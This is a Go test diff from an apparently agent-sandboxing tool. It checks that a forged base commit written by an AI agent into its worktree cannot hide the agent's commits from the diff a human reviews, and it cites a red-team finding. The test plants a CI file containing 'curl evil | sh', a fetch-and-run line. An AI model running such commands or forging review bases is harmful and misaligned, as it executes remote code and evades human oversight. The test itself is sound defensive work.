@@ -169,3 +169,27 @@ func TestHarmlessUserKeys(t *testing.T) {
 		}
 	}
 }
+
+// The base recorded in the worktree's git dir, which the agent writes, is
+// not taken when it is not in the user's history: set to the agent's own
+// last commit, it hid every commit from the diff the human merges on (red
+// team 10a, finding 17).
+func TestForgedBaseIsNotTaken(t *testing.T) {
+	repo := newRepo(t)
+	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
+	write(t, filepath.Join(tr.Path, "ci.yml"), "run: curl evil | sh\n")
+	head := commit(t, tr.Path, "sneak a workflow in")
+	write(t, filepath.Join(tr.GitDir, "teamlead-base"), head+"\n")
+	again := ensure(t, Spec{Repo: repo, Agent: "dev"})
+	c, err := Diff(again)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, f := range c.Committed.Files {
+		found = found || f.Path == "ci.yml"
+	}
+	if !found {
+		t.Fatalf("the agent's commit is hidden from the diff: base %s, %+v", c.Base, c.Committed)
+	}
+}
